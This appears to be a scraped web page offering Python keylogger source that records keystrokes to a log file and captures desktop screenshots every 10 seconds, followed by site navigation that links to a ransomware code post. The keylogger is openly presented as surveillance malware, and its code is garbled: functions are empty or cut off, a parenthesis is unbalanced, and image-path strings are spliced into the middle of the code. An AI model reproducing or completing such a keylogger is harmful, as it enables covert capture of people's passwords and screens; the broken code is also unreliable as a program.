Keylogger code written for python 3.7 takes snapshot of the desktop every 10 seconds

import pynput
from pynput.keyboard import Key, Listener
import logging
from datetime import datetime
import os
import time
from mss import mss

# Set the directory to store the log file
log_directory = '/home/rocheston/Downloads/'

# Create a function to capture the keystrokes
def on_press(key):
    logging.basicConfig(filename=(log_directory + "key_log.txt"), level=logging.DEBUG, format='%(asctime)s: %(message)s')

# Create a function to take screenshot every 10 secondsdef screenshot():
    while True:
        filename = log_directory +"Screenshot %Y-%m-%d %H.%M.%S.png")
        with mss() as sct:

# Collect events until released
with Listener(on_press=on_press) as listener:
Previous Story

S3 Ep118: Guess your password? No need if it’s stolen already! [Audio + Text]

Next StorySimple Ransomware python code that infects a targetdirectory with 2048 encryption